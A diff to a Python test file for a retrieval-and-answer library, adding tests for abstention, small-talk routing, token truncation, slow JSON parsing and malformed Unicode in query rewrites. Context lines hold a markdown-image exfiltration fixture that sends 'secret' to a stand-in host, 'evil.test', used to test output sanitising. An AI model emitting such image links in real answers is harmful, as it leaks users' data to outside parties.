@@ -3,9 +3,13 @@
 import re
 import time
 
+import anyio
 import pytest
 
+from fingerpost import QueryRouter
 from fingerpost.generate.safe import SafeStream
+from fingerpost.lanes.structured import read_json
+from fingerpost.testing.provider import ProviderServer
 
 IMAGE = "![x](//evil.test/?q=secret)"
 
@@ -80,3 +84,71 @@ def test_a_line_without_an_end_takes_time_in_proportion_to_its_length(word):
     began = time.process_time()
     made_safe(word * (40_000 // len(word)), size=1)
     assert time.process_time() - began < 2.5
+
+
+QUESTION = "Which modes does Heron have?"
+
+
+def told(corpus, answer, tier=1, **settings):
+    """Return the result of a question and the joined text of its stream, by a scripted model."""
+
+    def script(request):
+        return f'{{"tier": {tier}, "confidence": 0.9}}' if request.schema else answer
+
+    async def both(url):
+        given = {"embed": "never", "base_url": url, **settings}
+        async with QueryRouter(knowledge_corpus=[corpus], **given) as router:
+            events = [event async for event in router.stream(QUESTION)]
+            return await router.route(QUESTION), events
+
+    with ProviderServer(script) as server:
+        result, events = anyio.run(both, server.url)
+    return result, "".join(event.text for event in events if event.type == "generate:delta")
+
+
+@pytest.mark.parametrize(
+    "reply",
+    ["NOTHING_IN_THE_DOCUMENTS", "**NOTHING_IN_THE_DOCUMENTS**", "> `NOTHING_IN_THE_DOCUMENTS`."],
+)
+def test_a_model_that_finds_nothing_is_told_as_the_abstention_in_a_stream_too(corpus, reply):
+    result, text = told(corpus, reply)
+    assert result.generation_mode == "abstained"
+    assert text == result.answer != ""
+
+
+def test_the_word_for_nothing_is_never_shown_within_an_answer(corpus):
+    result, text = told(corpus, "I cannot say. NOTHING_IN_THE_DOCUMENTS")
+    assert result.answer == text == "I cannot say."
+
+
+def test_small_talk_does_not_abstain_for_want_of_documents(corpus):
+    result, text = told(corpus, "NOTHING_IN_THE_DOCUMENTS", tier=0)
+    assert result.generation_mode == "small_talk"
+    assert text == result.answer
+
+
+def test_no_more_is_read_than_the_tokens_that_were_asked_for_can_hold(corpus):
+    endless = "Heron has three modes [1]. " * 40_000
+    result, text = told(corpus, endless, max_answer_tokens=100)
+    assert result.truncated
+    assert result.answer == text == endless[: len(text)]
+    assert 3_000 < len(text) <= 3_200
+
+
+def test_a_reply_of_many_open_brackets_is_given_up_soon():
+    began = time.process_time()
+    assert read_json("[," * 39 + ",x" * 15_900) is None
+    assert time.process_time() - began < 1.5
+
+
+def test_a_rewrite_with_half_a_character_can_be_searched_and_printed(corpus):
+    def script(request):
+        if "standalone" in request.prompt:
+            return '{"standalone": "Which modes does Heron \\ud800 have?"}'
+        return '{"tier": 1, "confidence": 0.9}' if request.schema else "Three modes [1]."
+
+    with ProviderServer(script) as server:
+        settings = {"embed": "never", "base_url": server.url}
+        with QueryRouter(knowledge_corpus=[corpus], **settings) as router:
+            result = router.route_sync("and which modes?", history=[("user", "What is Heron?")])
+    assert result.rewritten_query.encode() == "Which modes does Heron \ufffd have?".encode()
